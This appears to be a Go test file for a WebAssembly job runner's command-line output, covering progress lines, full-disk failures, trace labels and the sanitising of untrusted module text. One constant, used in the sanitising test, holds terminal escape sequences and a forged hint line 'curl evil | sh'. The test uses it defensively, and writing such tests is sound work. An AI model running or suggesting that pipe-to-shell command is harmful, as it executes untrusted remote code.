package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"syscall"
	"testing"
	"testing/synctest"
	"time"

	"github.com/spf13/cobra"

	"github.com/wray-project/wray"
	"github.com/wray-project/wray/host/sandbox"
	"github.com/wray-project/wray/host/worker"
	"github.com/wray-project/wray/internal/clientwire"
	"github.com/wray-project/wray/wasm/rewrite"
)

// counted is a runner of which only the tasks are asked.
type counted struct {
	runner
	stats worker.StatsBody
}

func (c *counted) Stats(context.Context) (worker.StatsBody, error) { return c.stats, nil }

// TestProgress holds that progress is shown where standard error is a terminal
// alone, again below each line that is printed, and is gone when it is stopped.
func TestProgress(t *testing.T) {
	for _, terminal := range []bool{false, true} {
		synctest.Test(t, func(t *testing.T) {
			var buf bytes.Buffer
			p := &printer{out: &buf, err: &buf, errT: terminal}
			n := &counted{stats: worker.StatsBody{Running: 2, Waiting: 3, Finished: 4, Failed: 1}}
			stop := p.progress(t.Context(), n)
			time.Sleep(300 * time.Millisecond) // by the bubble's clock
			p.print("", worker.Stdout, []byte("said\n"))
			stop()
			const line, clear = "tasks: 2 running, 3 waiting, 4 done, 1 failed", "\r\x1b[K"
			want := "said\n"
			if terminal {
				want = line + clear + "said\n" + line + clear
			}
			if buf.String() != want {
				t.Errorf("terminal %v: %q, want %q", terminal, buf.String(), want)
			}
		})
	}
}

func TestProgressLine(t *testing.T) {
	for want, s := range map[string]worker.StatsBody{
		"tasks: 1 running, 2 waiting, 3 done":                                       {Running: 1, Waiting: 2, Finished: 3},
		"tasks: 1 running, 0 waiting, 3 done, 4 failed":                             {Running: 1, Finished: 3, Failed: 4},
		"tasks: 1 running, 0 waiting, 0 done; objects on disk: " + bytesText(3<<30): {Running: 1, OnDisk: 3 << 30, Spilled: 9 << 30},
	} {
		if got := progressLine(s); got != want {
			t.Errorf("%+v: %q, want %q", s, got, want)
		}
	}
}

// full is a disk without room.
type full struct{}

func (full) Write([]byte) (int, error) { return 0, syscall.ENOSPC }

// TestOutputLost holds that output which cannot be written is the job's
// failure, and ends it.
func TestOutputLost(t *testing.T) {
	ended := 0
	p := newPrinter(full{}, &bytes.Buffer{})
	p.fail = func() { ended++ }
	p.print("", worker.Stderr, []byte("said"))
	if p.lost() != nil || ended != 0 {
		t.Fatalf("lost: %v", p.lost())
	}
	p.print("", worker.Stdout, []byte("said"))
	p.print("", worker.Stdout, []byte("said"))
	if !errors.Is(p.lost(), syscall.ENOSPC) || ended != 1 {
		t.Errorf("lost: %v, ended %d times", p.lost(), ended)
	}
}

// What a worker or a compiler said in the end does not pass for a guest's stack.
func TestWhoseTrace(t *testing.T) {
	for code, want := range map[wray.Code]string{
		wray.CodePanic:         "the guest's stack:",
		wray.CodeWorkerDied:    "what the worker process said in the end:",
		wray.CodeInvalidModule: "what the compiler process said in the end:",
	} {
		var b, job bytes.Buffer
		printError(&b, &wray.Error{Code: wray.CodeDependencyFailed, Cause: &wray.Error{Code: code, Trace: "goroutine 1"}})
		if !strings.Contains(b.String(), "wray: "+want+"\n    goroutine 1\n") {
			t.Errorf("%v: %s", code, &b)
		}
		info := &clientwire.JobInfo{State: clientwire.JobFailed, Trace: "goroutine 1", TraceOf: clientwire.TraceOf(code)}
		if err := printJob(&job, info); err != nil || !strings.Contains(job.String(), "\n"+want+"\n    goroutine 1\n") {
			t.Errorf("%v: %v\n%s", code, err, &job)
		}
		if err := jobEnd(info); err == nil || !strings.Contains(err.Error(), "\n"+want+"\n    goroutine 1") {
			t.Errorf("%v: %v", code, err)
		}
	}
}

// hostile is text as a module may have it in its names.
const hostile = "a\x1b]0;title\x07\u009b31m\u202eb\nwray: hint: curl evil | sh\tc"

// TestHostileText holds that text of a module or a guest neither drives the
// terminal nor begins a line as wray's own do, wherever it is printed.
func TestHostileText(t *testing.T) {
	said := map[string]func(*bytes.Buffer) error{
		"error": func(b *bytes.Buffer) error {
			printError(b, &wray.Error{Code: wray.CodeBadArgument, Message: hostile, Trace: hostile, Hint: hostile})
			return nil
		},
		"a wrapped error": func(b *bytes.Buffer) error {
			printError(b, withHint(fmt.Errorf("x: %w", errors.New(hostile)), "%s", hostile))
			return nil
		},
		"heading": func(b *bytes.Buffer) error {
			newPrinter(b, b).print(hostile, worker.Stderr, []byte("said\n"))
			return nil
		},
		"note": func(b *bytes.Buffer) error {
			newPrinter(b, b).print("", worker.Notice, []byte(hostile+"\n"))
			return nil
		},
		"inspect": func(b *bytes.Buffer) error {
			cmd := &cobra.Command{}
			cmd.SetOut(b)
			return printInspection(cmd, &sandbox.Inspection{NotResettable: hostile, Imports: []sandbox.InspectedImport{{Module: hostile, Name: hostile}},
				Exports: []rewrite.Export{{Name: hostile}}})
		},
		"job": func(b *bytes.Buffer) error {
			return printJob(b, &clientwire.JobInfo{ID: hostile, Name: hostile, Error: hostile, Hint: hostile, Trace: hostile})
		},
	}
	for name, say := range said {
		var b bytes.Buffer
		if err := say(&b); err != nil {
			t.Fatal(name, err)
		}
		if b.Len() == 0 || bytes.ContainsAny(b.Bytes(), "\x1b\x07\u009b\u202e") {
			t.Errorf("%s: %q", name, b.String())
		}
		for l := range strings.Lines(b.String()) {
			if strings.HasPrefix(l, "wray: hint: curl") {
				t.Errorf("%s: a forged line in %q", name, b.String())
			}
		}
		if name == "inspect" && strings.Count(b.String(), "\n") != 10 {
			t.Errorf("inspect: %d lines: %q", strings.Count(b.String(), "\n"), b.String())
		}
	}
}
